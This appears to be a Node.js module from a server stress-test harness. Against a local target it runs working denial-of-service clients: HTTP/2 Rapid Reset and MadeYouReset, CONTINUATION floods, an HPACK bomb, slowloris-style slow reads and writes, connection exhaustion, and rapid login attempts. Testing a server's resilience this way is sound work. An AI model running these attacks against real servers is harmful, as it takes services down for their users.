// The attacks: what each client does until it is told to stop, and what it counts. `target` is { port, paths, pauseMs }: `paths`
// name what is slow, small and large there, `pauseMs` is long enough to turn connections away. They run in a thread of their own;
// see attacker.mjs.
// SPDX-License-Identifier: MIT
import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { FLAG, SETTING, TYPE, block, frame, indexed, preface, remembered, request, uint32 } from '../support/http2_frames.mjs';

const BATCH = 64;
const NOTHING = Buffer.alloc(0);

/** A connection that nobody waits for; `openFor()` says how long it was open, in seconds. */
function open(target, from = '127.0.0.1') {
  const socket = connect({ port: target.port, host: '127.0.0.1', localAddress: from });
  const began = Date.now();
  let ended = null;
  const close = () => (ended ??= Date.now());
  socket.on('error', close).on('close', close).on('end', close);
  socket.setNoDelay(true);
  return Object.assign(socket, {
    isOpen: () => ended === null,
    openFor: () => ((ended ?? Date.now()) - began) / 1000,
  });
}

/** Lets the other side work, and the socket drain. */
const give = (socket) => (socket.writableNeedDrain && socket.isOpen() ? sleep(1) : new Promise(setImmediate));

/** Again and again on a new connection: what `step(socket, first stream)` sends BATCH streams at a time. */
async function streams(target, until, step) {
  let connections = 0;
  let sent = 0;
  while (Date.now() < until) {
    const socket = open(target);
    socket.resume().write(preface());
    connections++;
    let count = 0;
    while (socket.isOpen() && Date.now() < until) {
      socket.write(step(1 + 2 * count));
      count += BATCH;
      await give(socket);
    }
    sent += count;
    socket.destroy();
  }
  return { connections, streams: sent };
}

const many = (count, make) => Array.from({ length: count }, (_, i) => make(i));

/** Sends `drop(i)` on every socket of `sockets` each 100 ms; the answer is how long the longest was open. */
async function drip(sockets, until, drop) {
  for (let i = 0; Date.now() < until && sockets.some((socket) => socket.isOpen()); i++) {
    for (const socket of sockets) if (socket.isOpen()) socket.write(drop(i));
    await sleep(100);
  }
  const seconds = Math.max(...sockets.map((socket) => socket.openFor()));
  for (const socket of sockets) socket.destroy();
  return { seconds };
}

/** A client of each address, with as many connections as it gets, and those that it has after a pause. */
async function crowd(target, until, addresses, each) {
  const sockets = new Map(addresses.map((address) => [address, []]));
  let held = 0;
  while (Date.now() < until) {
    for (const [address, mine] of sockets) {
      const alive = mine.filter((socket) => socket.isOpen());
      sockets.set(address, alive.concat(many(each - alive.length, () => open(target, address))));
    }
    await sleep(target.pauseMs);
    held = Math.max(held, [...sockets.values()].flat().filter((socket) => socket.isOpen()).length);
  }
  for (const socket of [...sockets.values()].flat()) socket.destroy();
  return { held };
}

const beginBlock = (stream, path) => frame(TYPE.headers, FLAG.endStream, stream, block('GET', path));
const continuation = (payload = NOTHING) => frame(TYPE.continuation, FLAG.none, 1, payload);

export const ATTACKS = {
  /** None: what there is to compare with. */
  async none(target, until) {
    while (Date.now() < until) await sleep(50);
  },

  /** CVE-2023-44487: requests that are cancelled at once. */
  rapidReset: (target, until) =>
    streams(target, until, (first) =>
      Buffer.concat(
        many(BATCH, (i) => first + 2 * i).flatMap((id) => [
          request(id, 'POST', target.paths.slow),
          frame(TYPE.reset, FLAG.none, id, uint32(8)),
        ]),
      ),
    ),

  /** CVE-2025-8671: the server is made to reset them itself, by a window that grows by nothing. */
  madeYouReset: (target, until) =>
    streams(target, until, (first) =>
      Buffer.concat(
        many(BATCH, (i) => first + 2 * i).flatMap((id) => [
          request(id, 'POST', target.paths.slow),
          frame(TYPE.windowUpdate, FLAG.none, id, uint32(0)),
        ]),
      ),
    ),

  /** As many requests as there may be at a time, whose answers nobody takes, on connections that break while they are written to. */
  async brokenCrowd(target, until) {
    const crowd = Buffer.concat(many(100, (i) => request(1 + 2 * i, 'GET', target.paths.small)));
    const pings = Buffer.concat(many(200, () => frame(TYPE.ping, FLAG.none, 0, Buffer.alloc(8))));
    let connections = 0;
    await Promise.all(
      many(8, async () => {
        for (; Date.now() < until; connections++) {
          const socket = open(target);
          socket.write(Buffer.concat([preface([SETTING.initialWindowSize, 0]), crowd]));
          await sleep(20);
          socket.write(pings);
          await sleep(connections % 5);
          socket.resetAndDestroy();
        }
      }),
    );
    return { connections };
  },

  /** A header block that is as long as the library takes, on many connections. */
  async continuationFlood(target, until) {
    const piece = continuation(Buffer.alloc(16000, 'x'));
    const sockets = many(120, () => open(target));
    for (const socket of sockets) {
      socket.resume().write(Buffer.concat([preface(), beginBlock(1, '/'), ...many(25, () => piece)]));
      await give(socket);
    }
    while (Date.now() < until) await sleep(50);
    for (const socket of sockets) socket.destroy();
    return {};
  },

  /** A header block without end, of nothing. */
  async emptyContinuationFlood(target, until) {
    const sockets = many(2, () => open(target));
    const pieces = Buffer.concat(many(2000, () => continuation()));
    for (const socket of sockets) socket.resume().write(Buffer.concat([preface(), beginBlock(1, '/')]));
    while (Date.now() < until && sockets.some((socket) => socket.isOpen()))
      for (const socket of sockets) {
        if (socket.isOpen()) socket.write(pieces);
        await give(socket);
      }
    const seconds = Math.max(...sockets.map((socket) => socket.openFor()));
    for (const socket of sockets) socket.destroy();
    return { seconds };
  },

  /** Frames that nobody knows, about each of which the library says so. */
  async unknownFrames(target, until) {
    const socket = open(target);
    const pieces = Buffer.concat(many(5000, () => frame(0xee, FLAG.none, 0)));
    socket.resume().write(preface());
    while (Date.now() < until && socket.isOpen()) {
      socket.write(pieces);
      await give(socket);
    }
    socket.destroy();
    return {};
  },

  async slowHeaders(target, until) {
    const sockets = many(5, () => open(target));
    for (const socket of sockets) socket.resume().write('GET / HTTP/1.1\r\n');
    return drip(sockets, until, (i) => `X-${i}: y\r\n`);
  },

  async slowBody(target, until) {
    const sockets = many(5, () => open(target));
    for (const socket of sockets) socket.resume().write(`POST ${target.paths.slow} HTTP/1.1\r\nHost: x\r\nContent-Length: 9999\r\n\r\n`);
    return drip(sockets, until, () => 'x');
  },

  async slowHeadersHttp2(target, until) {
    const sockets = many(5, () => open(target));
    for (const socket of sockets) socket.resume().write(Buffer.concat([preface(), beginBlock(1, '/')]));
    return drip(sockets, until, () => continuation(Buffer.from('x')));
  },

  async slowBodyHttp2(target, until) {
    const sockets = many(5, () => open(target));
    for (const socket of sockets) socket.resume().write(Buffer.concat([preface(), request(1, 'POST', target.paths.slow, FLAG.endHeaders)]));
    return drip(sockets, until, () => frame(TYPE.data, FLAG.none, 1, Buffer.from('x')));
  },

  async pings(target, until) {
    const sockets = many(5, () => open(target));
    for (const socket of sockets) socket.resume().write(preface());
    return drip(sockets, until, () => frame(TYPE.ping, FLAG.none, 0, Buffer.alloc(8)));
  },

  /** Asks for more than the system's buffers hold, and takes none of it. */
  async slowReader(target, until) {
    const sockets = many(3, () => open(target));
    const asked = `GET ${target.paths.large} HTTP/1.1\r\nHost: x\r\n\r\n`.repeat(target.paths.times);
    for (const socket of sockets) socket.pause().write(asked);
    return drip(sockets, until, () => asked.slice(0, asked.indexOf('\r\n\r\n') + 4));
  },

  async slowReaderHttp2(target, until) {
    const sockets = many(3, () => open(target));
    for (const socket of sockets) {
      socket.resume().write(preface([SETTING.initialWindowSize, 0]));
      socket.write(request(1, 'GET', target.paths.large));
    }
    return drip(sockets, until, (i) => request(3 + 2 * i, 'HEAD', target.paths.small));
  },

  /** A table's entry that is sent once and named a hundred times in each request. */
  async hpackBomb(target, until) {
    const sockets = many(8, () => open(target));
    const pseudo = block('POST', target.paths.slow);
    const bomb = Buffer.concat([pseudo, ...many(90, () => indexed(62))]);
    let requests = 0;
    for (const socket of sockets) {
      const first = Buffer.concat([pseudo, remembered('x-forwarded-for', '1'.repeat(4000))]);
      socket.resume().write(Buffer.concat([preface(), frame(TYPE.headers, FLAG.endHeaders, 1, first)]));
    }
    for (let id = 3; Date.now() < until; id += 2)
      for (const socket of sockets) {
        if (socket.isOpen() && id < 2 * 95) {
          socket.write(frame(TYPE.headers, FLAG.endHeaders | FLAG.endStream, id, bomb));
          requests++;
        }
        await give(socket);
      }
    for (const socket of sockets) socket.destroy();
    return { requests };
  },

  /** Bodies of HTTP/1.1 that are far above any limit. */
  async oversizedBodies(target, until) {
    const piece = Buffer.alloc(1 << 20, 'x');
    let sent = 0;
    let refused = 0;
    await Promise.all(
      many(4, async () => {
        const socket = open(target);
        socket.on('data', (bytes) => (refused += bytes.includes(' 413 ') ? 1 : 0));
        socket.write(`POST ${target.paths.slow} HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000000\r\n\r\n`);
        for (let i = 0; i < 24 && socket.isOpen() && Date.now() < until; i++) {
          socket.write(piece);
          sent++;
          while (socket.writableNeedDrain && socket.isOpen() && Date.now() < until) await give(socket);
        }
        while (Date.now() < until) await sleep(50);
        socket.destroy();
      }),
    );
    return { sentMb: sent, refused };
  },

  /** Bodies of HTTP/2 that are within the limit each, a hundred at a time on each connection, and never end. */
  async endlessBodies(target, until) {
    const SIZE = 250_000;
    const PIECE = 16_000;
    let sent = 0;
    await Promise.all(
      many(6, async () => {
        const socket = open(target);
        socket.resume().write(preface());
        for (let id = 1; id < 200; id += 2) socket.write(request(id, 'POST', target.paths.slow, FLAG.endHeaders));
        await sleep(50);
        for (let at = 0; at + PIECE < SIZE; at += PIECE)
          for (let id = 1; id < 200 && socket.isOpen() && Date.now() < until; id += 2) {
            socket.write(frame(TYPE.data, FLAG.none, id, Buffer.alloc(PIECE, 'x')));
            sent += PIECE;
            if (socket.writableNeedDrain) await give(socket);
          }
        while (Date.now() < until) await sleep(50);
        socket.destroy();
      }),
    );
    return { sentMb: Math.round(sent / 1e6) };
  },

  connectionsOfOneAddress: (target, until) => crowd(target, until, ['127.0.0.1'], 500),

  connectionsOfManyAddresses: (target, until) => crowd(target, until, many(30, (i) => `127.0.1.${i + 1}`), 20),

  /** Passwords, as fast as they are answered. */
  async logins(target, until) {
    const body = JSON.stringify({ username: 'admin', password: 'not this one' });
    const ask = `POST /api/auth/login HTTP/1.1\r\nHost: x\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
    const counts = { compared: 0, limited: 0, busy: 0 };
    const statuses = { 401: 'compared', 429: 'limited', 503: 'busy' };
    await Promise.all(
      many(16, async () => {
        const socket = open(target);
        socket.on('data', (bytes) => {
          const outcome = statuses[bytes.toString('latin1').split(' ')[1]];
          if (outcome) counts[outcome]++;
          if (Date.now() < until) socket.write(ask);
        });
        socket.write(ask);
        while (socket.isOpen() && Date.now() < until) await sleep(20);
        socket.destroy();
      }),
    );
    return counts;
  },
};
